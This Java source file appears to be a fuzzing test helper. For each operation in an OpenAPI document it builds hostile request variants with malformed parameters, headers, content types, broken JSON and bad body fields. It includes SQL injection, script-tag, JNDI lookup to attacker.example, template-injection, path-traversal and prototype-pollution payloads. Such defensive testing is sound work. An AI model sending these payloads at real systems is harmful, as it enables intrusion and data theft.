package io.defuse.shared.web;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Function;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Builds the hostile requests for one operation of the OpenAPI document: each variant
 * changes one thing of a valid request (a path or query parameter, a header, the content
 * type, the JSON text, or one field of the body), so a refusal is the answer to that one
 * thing.
 */
final class HostileVariants {

	static final JsonMapper JSON = JsonMapper.builder().build();

	private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

	/**
	 * Texts that look dangerous but are legitimate content where free text is allowed.
	 */
	static final Map<String, String> HOSTILE_TEXTS = hostileTexts();

	/**
	 * Texts no service should store: PostgreSQL text cannot hold NUL, nor UTF-8 a lone
	 * surrogate.
	 */
	static final Map<String, String> UNSTORABLE_TEXTS = Map.of("NUL", "before\u0000after", "lone high surrogate",
			"broken \uD83D text", "lone low surrogate", "broken \uDE00 text");

	private HostileVariants() {
	}

	/** One hostile request, without credentials. */
	record Variant(String kind, String name, String method, String path, List<String> headers, byte[] body,
			String contentType, String field, String value) {

		String describe() {
			return this.kind + ": " + this.name;
		}

		Variant withHeader(String name, String value) {
			List<String> more = new ArrayList<>(this.headers);
			more.add(name);
			more.add(value);
			return new Variant(this.kind, this.name, this.method, this.path, more, this.body, this.contentType,
					this.field, this.value);
		}

	}

	/** An operation of the document with the parts the variants are built from. */
	record Operation(String method, String template, List<Parameter> parameters, String bodySchema,
			List<String> contentTypes, boolean bodyRequired) {

		String id() {
			return this.method + " " + this.template;
		}

		boolean changes() {
			return !this.method.equals("GET");
		}

		boolean has(String in, String name) {
			return this.parameters.stream().anyMatch((p) -> p.in().equals(in) && p.name().equals(name));
		}

		static List<Operation> from(JsonNode doc) {
			List<Operation> operations = new ArrayList<>();
			doc.get("paths").properties().forEach((path) -> path.getValue().properties().forEach((entry) -> {
				String method = entry.getKey().toUpperCase(Locale.ROOT);
				if (!List.of("GET", "POST", "PUT", "PATCH", "DELETE").contains(method)) {
					return;
				}
				JsonNode operation = entry.getValue();
				List<Parameter> parameters = new ArrayList<>();
				for (JsonNode parameter : operation.path("parameters")) {
					parameters.add(new Parameter(parameter.get("name").asString(), parameter.get("in").asString(),
							parameter.path("required").asBoolean(false), parameter.path("schema")));
				}
				String bodySchema = null;
				List<String> contentTypes = new ArrayList<>();
				JsonNode content = operation.at("/requestBody/content");
				for (Map.Entry<String, JsonNode> media : content.properties()) {
					contentTypes.add(media.getKey());
					String ref = media.getValue().at("/schema/$ref").asString("");
					bodySchema = ref.substring(ref.lastIndexOf('/') + 1);
				}
				operations.add(new Operation(method, path.getKey(), parameters, bodySchema, contentTypes,
						operation.at("/requestBody/required").asBoolean(false)));
			}));
			operations.sort((a, b) -> a.id().compareTo(b.id()));
			return operations;
		}

	}

	record Parameter(String name, String in, boolean required, JsonNode schema) {

		String type() {
			return this.schema.path("type").asString("string");
		}

		String format() {
			return this.schema.path("format").asString("");
		}

	}

	/**
	 * What a valid request of an operation looks like: concrete path, valid query
	 * parameters and a valid body (or none).
	 */
	record Baseline(String path, Map<String, String> query, ObjectNode body, List<String> headers) {

	}

	/** Every hostile variant of one operation. */
	static List<Variant> of(Operation operation, JsonNode doc, Function<Operation, Baseline> baselines) {
		List<Variant> variants = new ArrayList<>();
		Builder builder = new Builder(operation, doc, baselines, variants);
		builder.baseline();
		builder.pathParameters();
		builder.queryParameters();
		builder.headers();
		if (operation.bodySchema() != null) {
			builder.contentTypes();
			builder.brokenJson();
			builder.fields();
		}
		else if (operation.changes()) {
			builder.unexpectedBody();
		}
		return variants;
	}

	private static final class Builder {

		private final Operation operation;

		private final JsonNode doc;

		private final Function<Operation, Baseline> baselines;

		private final List<Variant> variants;

		Builder(Operation operation, JsonNode doc, Function<Operation, Baseline> baselines, List<Variant> variants) {
			this.operation = operation;
			this.doc = doc;
			this.baselines = baselines;
			this.variants = variants;
		}

		private Baseline fresh() {
			return this.baselines.apply(this.operation);
		}

		private String contentType() {
			return this.operation.contentTypes().isEmpty() ? null : this.operation.contentTypes().get(0);
		}

		private void add(String kind, String name, Baseline baseline, Map<String, String> query, String rawQuery,
				byte[] body, String contentType, List<String> headers, String field, String value) {
			String path = baseline.path();
			String queryText = (rawQuery != null) ? rawQuery : encode(query);
			if (!queryText.isEmpty()) {
				path = path + "?" + queryText;
			}
			List<String> all = new ArrayList<>(baseline.headers());
			all.addAll(headers);
			this.variants
				.add(new Variant(kind, name, this.operation.method(), path, all, body, contentType, field, value));
		}

		/**
		 * A variant with the baseline's query and body, and the given body or headers.
		 */
		private void addBody(String kind, String name, byte[] body, String contentType) {
			Baseline baseline = fresh();
			add(kind, name, baseline, baseline.query(), null, body, contentType, List.of(), null, null);
		}

		private void addHeaders(String kind, String name, String... headers) {
			Baseline baseline = fresh();
			add(kind, name, baseline, baseline.query(), null, bytes(baseline.body()), contentType(), List.of(headers),
					null, null);
		}

		void baseline() {
			addHeaders("baseline", "the valid request");
		}

		void pathParameters() {
			for (Parameter parameter : this.operation.parameters()) {
				if (!parameter.in().equals("path")) {
					continue;
				}
				Map<String, String> values = new LinkedHashMap<>();
				if (parameter.format().equals("uuid")) {
					values.put("not a UUID", "not-a-uuid");
					values.put("unknown UUID", java.util.UUID.randomUUID().toString());
					values.put("nil UUID", "00000000-0000-0000-0000-000000000000");
					values.put("UUID with trailing garbage", java.util.UUID.randomUUID() + "x");
				}
				else if (parameter.type().equals("integer")) {
					values.put("not a number", "abc");
					values.put("negative", "-1");
					values.put("zero", "0");
					values.put("beyond a long", "99999999999999999999");
					values.put("Long.MAX_VALUE", Long.toString(Long.MAX_VALUE));
					values.put("exponent", "1e3");
				}
				else {
					values.put("unknown name", "NOPE");
					values.put("lower case", "low");
				}
				values.put("SQL injection", "' or 1=1--");
				values.put("script", "<script>alert(1)</script>");
				values.put("JNDI lookup", "${jndi:ldap://attacker.example/a}");
				values.put("encoded NUL", "%00");
				values.put("encoded slash", "..%2F..%2Fetc%2Fpasswd");
				values.put("5000 characters", "a".repeat(5000));
				values.put("emoji", "😡🔥");
				for (Map.Entry<String, String> value : values.entrySet()) {
					Baseline baseline = fresh();
					String segment = value.getValue().contains("%") ? value.getValue()
							: URLEncoder.encode(value.getValue(), StandardCharsets.UTF_8).replace("+", "%20");
					String path = replaceSegment(baseline.path(), this.operation.template(), parameter.name(), segment);
					Baseline changed = new Baseline(path, baseline.query(), baseline.body(), baseline.headers());
					add("path", parameter.name() + " " + value.getKey(), changed, changed.query(), null,
							bytes(changed.body()), contentType(), List.of(), null, null);
				}
			}
		}

		void queryParameters() {
			boolean any = false;
			for (Parameter parameter : this.operation.parameters()) {
				if (!parameter.in().equals("query")) {
					continue;
				}
				any = true;
				Map<String, String> values = new LinkedHashMap<>();
				String name = parameter.name();
				if (parameter.type().equals("integer")) {
					values.put("-1", "-1");
					values.put("0", "0");
					values.put("maximum + 1", Long.toString(parameter.schema().path("maximum").asLong(100) + 1));
					values.put("1e9", "1e9");
					values.put("1000000000", "1000000000");
					values.put("beyond a long", "99999999999999999999");
					values.put("not a number", "abc");
					values.put("fraction", "1.5");
				}
				else if (parameter.type().equals("boolean")) {
					values.put("not a boolean", "maybe");
					values.put("number", "2");
				}
				else if (parameter.format().equals("uuid")) {
					values.put("not a UUID", "not-a-uuid");
					values.put("unknown UUID", java.util.UUID.randomUUID().toString());
				}
				else if (parameter.format().equals("date-time") || name.equals("from") || name.equals("to")
						|| name.equals("since")) {
					values.put("words", "yesterday");
					values.put("impossible date", "2026-13-45T99:99:99Z");
					values.put("year +999999999", "+999999999-12-31T23:59:59Z");
					values.put("year -999999999", "-999999999-01-01T00:00:00Z");
					values.put("epoch seconds", "1700000000");
				}
				else if (name.equals("cursor")) {
					values.put("garbage", "garbage");
					values.put("base64 of JSON junk", Base64.getUrlEncoder()
						.encodeToString("{\"junk\": [1, 2]}".getBytes(StandardCharsets.UTF_8)));
					values.put("base64 of a huge number",
							Base64.getUrlEncoder().encodeToString("99999999999999999999999|x".getBytes()));
					values.put("10000 characters", "A".repeat(10000));
				}
				else if (parameter.schema().has("enum")
						|| List.of("step", "severity", "status", "metric", "interval", "lang").contains(name)) {
					values.put("unknown value", "NOPE");
					values.put("lower case", "listen");
				}
				values.put("empty", "");
				values.put("SQL injection", "' or 1=1--");
				values.put("script", "<script>alert(1)</script>");
				values.put("JNDI lookup", "${jndi:ldap://attacker.example/a}");
				values.put("NUL", "a\u0000b");
				values.put("RTL override", "\u202Eevil");
				values.put("201 characters", "x".repeat(201));
				for (Map.Entry<String, String> value : values.entrySet()) {
					Baseline baseline = fresh();
					Map<String, String> query = new LinkedHashMap<>(baseline.query());
					query.put(name, value.getValue());
					add("query", name + " " + value.getKey(), baseline, query, null, bytes(baseline.body()),
							contentType(), List.of(), null, null);
				}
				if (parameter.required()) {
					Baseline baseline = fresh();
					Map<String, String> query = new LinkedHashMap<>(baseline.query());
					query.remove(name);
					add("query", name + " missing", baseline, query, null, bytes(baseline.body()), contentType(),
							List.of(), null, null);
				}
				Baseline twice = fresh();
				String raw = encode(twice.query());
				add("query", name + " twice", twice, null,
						(raw.isEmpty() ? "" : raw + "&") + name + "=1&" + name + "=2", bytes(twice.body()),
						contentType(), List.of(), null, null);
			}
			Baseline unknown = fresh();
			Map<String, String> extra = new LinkedHashMap<>(unknown.query());
			extra.put("zz_unknown", "1");
			add("query", "unknown parameter", unknown, extra, null, bytes(unknown.body()), contentType(), List.of(),
					null, null);
			Baseline broken = fresh();
			String raw = encode(broken.query());
			add("query", "broken percent-encoding", broken, null, (raw.isEmpty() ? "" : raw + "&") + "zz=%ZZ%",
					bytes(broken.body()), contentType(), List.of(), null, null);
			if (any) {
				Baseline huge = fresh();
				add("query", "6000-character query string", huge, null, "zz=" + "q".repeat(6000), bytes(huge.body()),
						contentType(), List.of(), null, null);
			}
		}

		void headers() {
			if (this.operation.has("header", "If-Match")) {
				addHeaders("header", "If-Match garbage", "If-Match", "garbage");
				addHeaders("header", "If-Match negative version", "If-Match", "\"-1\"");
				addHeaders("header", "If-Match beyond a long", "If-Match", "\"99999999999999999999\"");
				addHeaders("header", "If-Match weak", "If-Match", "W/\"1\"");
				addHeaders("header", "If-Match star", "If-Match", "*");
				addHeaders("header", "If-Match empty quotes", "If-Match", "\"\"");
				addHeaders("header", "If-Match list", "If-Match", "\"1\", \"2\", garbage");
			}
			if (this.operation.has("header", "Idempotency-Key")) {
				addHeaders("header", "Idempotency-Key of 256 characters", "Idempotency-Key", "k".repeat(256));
				addHeaders("header", "Idempotency-Key of 4000 characters", "Idempotency-Key", "k".repeat(4000));
				addHeaders("header", "Idempotency-Key with spaces", "Idempotency-Key", "a key with spaces");
				addHeaders("header", "Idempotency-Key SQL injection", "Idempotency-Key", "'or'1'='1'--");
			}
			addHeaders("header", "Accept XML", "Accept", "application/xml");
			addHeaders("header", "Accept HTML", "Accept", "text/html");
			addHeaders("header", "Accept garbage", "Accept", "@@@garbage@@@");
			addHeaders("header", "Accept with bad quality", "Accept", "application/json;q=garbage");
			addHeaders("header", "Accept nothing", "Accept", "application/json;q=0");
			addHeaders("header", "X-Request-Id of 2000 characters", "X-Request-Id", "r".repeat(2000));
			addHeaders("header", "X-Request-Id injection", "X-Request-Id", "<script>alert(1)</script>");
			addHeaders("header", "X-Forwarded-For garbage", "X-Forwarded-For", "not-an-ip, ' or 1=1--");
			addHeaders("header", "an 7000-byte header", "X-Padding", "p".repeat(7000));
			addHeaders("header", "a 12000-byte header", "X-Padding", "p".repeat(12000));
		}

		void contentTypes() {
			Baseline baseline = fresh();
			byte[] valid = bytes(baseline.body());
			addBody("content-type", "text/plain", valid, "text/plain");
			addBody("content-type", "form", "a=1&b=2".getBytes(StandardCharsets.UTF_8),
					"application/x-www-form-urlencoded");
			addBody("content-type", "XML", "<a><b>1</b></a>".getBytes(StandardCharsets.UTF_8), "application/xml");
			addBody("content-type", "none", valid, null);
			addBody("content-type", "multipart without boundary", valid, "multipart/form-data");
			addBody("content-type", "garbage", valid, "a/b/c;;=");
			addBody("content-type", "no subtype", valid, "application");
			addBody("content-type", "charset UTF-16 on UTF-8", valid, "application/json; charset=UTF-16");
			addBody("content-type", "unknown charset", valid, "application/json; charset=klingon");
			addBody("content-type", "JSON with parameters", valid, "application/json; foo=bar; charset=utf-8");
		}

		void brokenJson() {
			String valid = new String(bytes(fresh().body()), StandardCharsets.UTF_8);
			String type = contentType();
			addBody("json", "empty body", new byte[0], type);
			addBody("json", "truncated", utf8(valid.substring(0, Math.max(1, valid.length() / 2))), type);
			addBody("json", "trailing garbage", utf8(valid + " garbage"), type);
			addBody("json", "two documents", utf8(valid + valid), type);
			addBody("json", "an array", utf8("[" + valid + "]"), type);
			addBody("json", "null", utf8("null"), type);
			addBody("json", "a string", utf8("\"text\""), type);
			addBody("json", "a number", utf8("42"), type);
			addBody("json", "10000 nested arrays", utf8("[".repeat(10000) + "]".repeat(10000)), type);
			addBody("json", "10000 nested objects", utf8("{\"a\":".repeat(10000) + "1" + "}".repeat(10000)), type);
			addBody("json", "single quotes", utf8(valid.replace('"', '\'')), type);
			addBody("json", "comment", utf8("/* hi */" + valid), type);
			addBody("json", "trailing comma", utf8(valid.replaceFirst("}$", ",}")), type);
			addBody("json", "NaN", utf8("{\"zz\": NaN}"), type);
			addBody("json", "invalid UTF-8",
					concat(utf8("{\"zz\": \""), new byte[] { (byte) 0xC3, (byte) 0x28 }, utf8("\"}")), type);
			addBody("json", "raw NUL byte", concat(utf8("{\"zz\": \"a"), new byte[] { 0 }, utf8("b\"}")), type);
			addBody("json", "byte order mark",
					concat(new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF }, utf8(valid)), type);
			addBody("json", "a number of 100000 digits", utf8("{\"zz\": " + "9".repeat(100000) + "}"), type);
			addBody("json", "a string of 200000 characters", utf8("{\"zz\": \"" + "s".repeat(200000) + "\"}"), type);
			addBody("json", "over the body limit", utf8("{\"zz\": \"" + "s".repeat(300 * 1024) + "\"}"), type);
			ObjectNode body = fresh().body();
			if (body != null && !body.isEmpty()) {
				String first = body.propertyNames().iterator().next();
				String duplicated = valid.replaceFirst("\\{", "{\"" + first + "\": " + body.get(first) + ", ");
				addBody("json", "duplicate key " + first, utf8(duplicated), type);
			}
		}

		void unexpectedBody() {
			addBody("json", "a body where none is expected", utf8("{\"zz\": 1}"), "application/json");
			addBody("json", "broken JSON where none is expected", utf8("{\"zz\": "), "application/json");
			addBody("content-type", "XML where no body is expected", utf8("<a/>"), "application/xml");
		}

		void fields() {
			JsonNode schema = this.doc.at("/components/schemas/" + this.operation.bodySchema());
			ObjectNode extra = fresh().body();
			extra.put("zzUnknown", 1);
			addBody("field", "unknown field", bytes(extra), contentType());
			ObjectNode proto = fresh().body();
			proto.set("__proto__", NODES.objectNode().put("admin", true));
			addBody("field", "__proto__ field", bytes(proto), contentType());
			addBody("field", "empty object", utf8("{}"), contentType());
			fieldsOf(schema, "", this.operation.bodySchema());
		}

		private void fieldsOf(JsonNode schema, String prefix, String schemaName) {
			for (JsonNode required : schema.path("required")) {
				String name = prefix + required.asString();
				field("required", name + " missing", name, null, true);
			}
			for (Map.Entry<String, JsonNode> property : schema.path("properties").properties()) {
				String name = prefix + property.getKey();
				JsonNode fieldSchema = property.getValue();
				String ref = fieldSchema.path("$ref").asString("");
				if (!ref.isEmpty()) {
					JsonNode nested = this.doc.at("/components/schemas/" + ref.substring(ref.lastIndexOf('/') + 1));
					wrongTypes(name, "object");
					fieldsOf(nested, name + ".", ref);
					continue;
				}
				String type = fieldSchema.path("type").asString(fieldSchema.has("properties") ? "object" : "any");
				wrongTypes(name, type);
				field("null", name + " null", name, NODES.nullNode(), false);
				if (fieldSchema.has("enum")) {
					field("enum", name + " unknown value", name, NODES.stringNode("NOT_A_VALUE"), false);
					String first = fieldSchema.get("enum").get(0).asString();
					String flipped = first.equals(first.toLowerCase(Locale.ROOT)) ? first.toUpperCase(Locale.ROOT)
							: first.toLowerCase(Locale.ROOT);
					field("enum", name + " in other case", name, NODES.stringNode(flipped), false);
					field("enum", name + " empty", name, NODES.stringNode(""), false);
					continue;
				}
				switch (type) {
					case "string" -> strings(name, fieldSchema);
					case "integer", "number" -> numbers(name, fieldSchema, type);
					case "array" -> arrays(name, fieldSchema);
					case "object" -> objects(name);
					default -> {
						field("nesting", name + " 10000 nested arrays", name, nested(10000), false);
						field("nesting", name + " 200 nested arrays", name, nested(200), false);
					}
				}
			}
		}

		private void wrongTypes(String name, String type) {
			if (!type.equals("string")) {
				field("type", name + " as a string", name, NODES.stringNode("text"), false);
			}
			if (!type.equals("integer") && !type.equals("number")) {
				field("type", name + " as a number", name, NODES.numberNode(12345), false);
			}
			if (!type.equals("boolean")) {
				field("type", name + " as a boolean", name, NODES.booleanNode(true), false);
			}
			if (!type.equals("object") && !type.equals("any")) {
				field("type", name + " as an object", name, NODES.objectNode().put("a", 1), false);
			}
			if (!type.equals("array") && !type.equals("any")) {
				field("type", name + " as an array", name, NODES.arrayNode().add(1), false);
			}
		}

		private void strings(String name, JsonNode schema) {
			int max = schema.path("maxLength").asInt(-1);
			int min = schema.path("minLength").asInt(0);
			String format = schema.path("format").asString("");
			if (max > 0) {
				field("length", name + " of maxLength " + max, name, NODES.stringNode(filler(name, max)), false);
				field("length", name + " of maxLength + 1", name, NODES.stringNode(filler(name, max + 1)), false);
			}
			if (min > 1) {
				field("length", name + " of minLength - 1", name, NODES.stringNode("x".repeat(min - 1)), false);
			}
			field("length", name + " empty", name, NODES.stringNode(""), false);
			field("length", name + " blank", name, NODES.stringNode("   "), false);
			field("length", name + " of 100000 characters", name, NODES.stringNode("x".repeat(100000)), false);
			switch (format) {
				case "uuid" -> {
					field("format", name + " not a UUID", name, NODES.stringNode("not-a-uuid"), false);
					field("format", name + " unknown UUID", name,
							NODES.stringNode(java.util.UUID.randomUUID().toString()), false);
					field("format", name + " nil UUID", name, NODES.stringNode("00000000-0000-0000-0000-000000000000"),
							false);
				}
				case "date" -> {
					field("format", name + " impossible date", name, NODES.stringNode("2026-02-30"), false);
					field("format", name + " year 999999999", name, NODES.stringNode("+999999999-12-31"), false);
					field("format", name + " year 0", name, NODES.stringNode("0000-01-01"), false);
					field("format", name + " far future", name, NODES.stringNode("9999-12-31"), false);
				}
				case "date-time" -> {
					field("format", name + " words", name, NODES.stringNode("tomorrow"), false);
					field("format", name + " year 999999999", name, NODES.stringNode("+999999999-12-31T23:59:59Z"),
							false);
					field("format", name + " in the past", name, NODES.stringNode("1970-01-01T00:00:00Z"), false);
					field("format", name + " far future", name, NODES.stringNode("9999-12-31T23:59:59Z"), false);
				}
				case "duration" -> {
					field("format", name + " words", name, NODES.stringNode("four hours"), false);
					field("format", name + " negative", name, NODES.stringNode("-PT4H"), false);
					field("format", name + " zero", name, NODES.stringNode("PT0S"), false);
					field("format", name + " huge", name, NODES.stringNode("PT9999999999999H"), false);
					field("format", name + " beyond a long", name, NODES.stringNode("PT99999999999999999999S"), false);
					field("format", name + " 100 years", name, NODES.stringNode("P36500D"), false);
				}
				case "email" ->
					field("format", name + " not an address", name, NODES.stringNode("not-an-email"), false);
				default -> {
				}
			}
			for (Map.Entry<String, String> text : HOSTILE_TEXTS.entrySet()) {
				String value = (max > 0 && text.getValue().length() > max) ? text.getValue().substring(0, max)
						: text.getValue();
				field("text", name + " " + text.getKey(), name, NODES.stringNode(value), false);
			}
			for (Map.Entry<String, String> text : UNSTORABLE_TEXTS.entrySet()) {
				field("unstorable", name + " " + text.getKey(), name, NODES.stringNode(text.getValue()), false);
			}
		}

		private void numbers(String name, JsonNode schema, String type) {
			field("number", name + " -1", name, NODES.numberNode(-1), false);
			field("number", name + " 0", name, NODES.numberNode(0), false);
			field("number", name + " Long.MAX_VALUE", name, NODES.numberNode(Long.MAX_VALUE), false);
			field("number", name + " Long.MIN_VALUE", name, NODES.numberNode(Long.MIN_VALUE), false);
			field("number", name + " beyond a long", name,
					NODES.numberNode(new java.math.BigInteger("99999999999999999999999999")), false);
			field("number", name + " 1e308", name, NODES.numberNode(1e308), false);
			field("number", name + " 1e-300", name, NODES.numberNode(1e-300), false);
			field("number", name + " 1e400", name, NODES.numberNode(new java.math.BigDecimal("1e400")), false);
			field("number", name + " 1e-400", name, NODES.numberNode(new java.math.BigDecimal("1e-400")), false);
			field("number", name + " 1000 decimals", name,
					NODES.numberNode(new java.math.BigDecimal("0." + "1".repeat(1000))), false);
			field("number", name + " numeric string", name, NODES.stringNode("5"), false);
			if (type.equals("integer")) {
				field("number", name + " fraction", name, NODES.numberNode(1.5), false);
			}
			if (schema.has("maximum")) {
				field("number", name + " maximum + 1", name, NODES.numberNode(schema.get("maximum").asLong() + 1),
						false);
			}
			if (schema.has("minimum")) {
				field("number", name + " minimum - 1", name, NODES.numberNode(schema.get("minimum").asLong() - 1),
						false);
			}
		}

		private void arrays(String name, JsonNode schema) {
			int max = schema.path("maxItems").asInt(-1);
			if (max > 0) {
				ArrayNode over = NODES.arrayNode();
				for (int i = 0; i <= max; i++) {
					over.add("item-" + i);
				}
				field("length", name + " of maxItems + 1", name, over, false);
			}
			field("type", name + " with a number item", name, NODES.arrayNode().add(1), false);
			field("type", name + " with an object item", name, NODES.arrayNode().add(NODES.objectNode()), false);
			field("type", name + " with a null item", name, NODES.arrayNode().addNull(), false);
			field("type", name + " with a nested array", name, NODES.arrayNode().add(NODES.arrayNode().add("x")),
					false);
			field("length", name + " with a 100000-character item", name, NODES.arrayNode().add("x".repeat(100000)),
					false);
			field("nesting", name + " 10000 nested arrays", name, nested(10000), false);
			for (Map.Entry<String, String> text : UNSTORABLE_TEXTS.entrySet()) {
				field("unstorable", name + " item " + text.getKey(), name, NODES.arrayNode().add(text.getValue()),
						false);
			}
		}

		private void objects(String name) {
			field("type", name + " with a number value", name, NODES.objectNode().put("k", 1), false);
			field("type", name + " with a null value", name, NODES.objectNode().putNull("k"), false);
			ObjectNode many = NODES.objectNode();
			for (int i = 0; i < 1000; i++) {
				many.put("key-" + i, "value");
			}
			field("length", name + " with 1000 keys", name, many, false);
			field("length", name + " with a 100000-character value", name,
					NODES.objectNode().put("k", "x".repeat(100000)), false);
			for (Map.Entry<String, String> text : UNSTORABLE_TEXTS.entrySet()) {
				field("unstorable", name + " value " + text.getKey(), name,
						NODES.objectNode().put("k", text.getValue()), false);
				field("unstorable", name + " key " + text.getKey(), name, NODES.objectNode().put(text.getValue(), "v"),
						false);
			}
		}

		/**
		 * One body field changed ({@code value}) or removed ({@code remove}); the variant
		 * remembers a text value for the round-trip check.
		 */
		private void field(String kind, String name, String path, JsonNode value, boolean remove) {
			ObjectNode body = fresh().body();
			ObjectNode parent = body;
			String[] parts = path.split("\\.");
			for (int i = 0; i < parts.length - 1; i++) {
				JsonNode child = parent.get(parts[i]);
				if (!(child instanceof ObjectNode)) {
					child = NODES.objectNode();
					parent.set(parts[i], child);
				}
				parent = (ObjectNode) child;
			}
			String last = parts[parts.length - 1];
			if (remove) {
				parent.remove(last);
			}
			else {
				parent.set(last, value);
			}
			Baseline baseline = fresh();
			boolean nesting = kind.equals("nesting");
			add(kind, name, baseline, baseline.query(), null, nesting ? withNesting(bytes(body)) : bytes(body),
					contentType(), List.of(), last,
					(value != null && value.isString() && !nesting) ? value.asString() : null);
		}

	}

	private static Map<String, String> hostileTexts() {
		Map<String, String> texts = new LinkedHashMap<>();
		texts.put("SQL injection", "' or 1=1--");
		texts.put("SQL statement", "'; drop table cases; --");
		texts.put("script", "<script>alert(1)</script>");
		texts.put("JNDI lookup", "${jndi:ldap://attacker.example/a}");
		texts.put("template", "{{7*7}} #{7*7} ${7*7}");
		texts.put("percent NUL", "%00");
		texts.put("path traversal", "../../../../etc/passwd");
		texts.put("RTL override", "\u202Egnp.exe");
		texts.put("emoji", "😡🔥👍🏽");
		texts.put("combining characters", "Zalgo: Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334");
		texts.put("zero-width characters", "a\u200Bb\u200Dc\uFEFFd");
		texts.put("Czech", "Přílišně žluťoučký kůň úpěl ďábelské ódy");
		texts.put("Arabic", "مرحبا بالعالم");
		texts.put("control characters", "a\u0001b\u001Fc\u007Fd");
		texts.put("line breaks", "line one\r\nline two\u2028line three");
		return texts;
	}

	/**
	 * A placeholder for arrays nested too deep for any JSON writer; replaced by the raw
	 * text once the body is written.
	 */
	static JsonNode nested(int depth) {
		return NODES.stringNode(NESTED + depth + "@@");
	}

	private static final String NESTED = "@@nested-arrays-";

	private static byte[] withNesting(byte[] body) {
		String text = new String(body, StandardCharsets.UTF_8);
		int start = text.indexOf("\"" + NESTED);
		if (start < 0) {
			return body;
		}
		int end = text.indexOf("@@\"", start + NESTED.length() + 1);
		int depth = Integer.parseInt(text.substring(start + 1 + NESTED.length(), end));
		return utf8(text.substring(0, start) + "[".repeat(depth) + "]".repeat(depth) + text.substring(end + 3));
	}

	private static String filler(String name, int length) {
		if (name.toLowerCase(Locale.ROOT).contains("email")) {
			String domain = "@example.com";
			return "a".repeat(Math.max(1, length - domain.length())) + domain;
		}
		if (name.toLowerCase(Locale.ROOT).contains("url")) {
			String start = "http://127.0.0.1:9/";
			return start + "a".repeat(Math.max(0, length - start.length()));
		}
		if (name.toLowerCase(Locale.ROOT).contains("phone")) {
			return "1".repeat(length);
		}
		if (name.equals("currency")) {
			return "E".repeat(length);
		}
		return "a".repeat(length);
	}

	static byte[] bytes(JsonNode body) {
		return (body != null) ? JSON.writeValueAsBytes(body) : null;
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] concat(byte[]... parts) {
		java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
		for (byte[] part : parts) {
			out.writeBytes(part);
		}
		return out.toByteArray();
	}

	static String encode(Map<String, String> query) {
		StringBuilder text = new StringBuilder();
		for (Map.Entry<String, String> entry : query.entrySet()) {
			if (!text.isEmpty()) {
				text.append('&');
			}
			text.append(URLEncoder.encode(entry.getKey(), StandardCharsets.UTF_8))
				.append('=')
				.append(URLEncoder.encode(entry.getValue(), StandardCharsets.UTF_8));
		}
		return text.toString();
	}

	/** The concrete path with one of the template's parameters replaced. */
	static String replaceSegment(String concrete, String template, String parameter, String segment) {
		String[] concreteParts = concrete.split("/", -1);
		String[] templateParts = template.split("/", -1);
		for (int i = 0; i < templateParts.length; i++) {
			if (templateParts[i].equals("{" + parameter + "}")) {
				concreteParts[i] = segment;
			}
		}
		return String.join("/", concreteParts);
	}

}
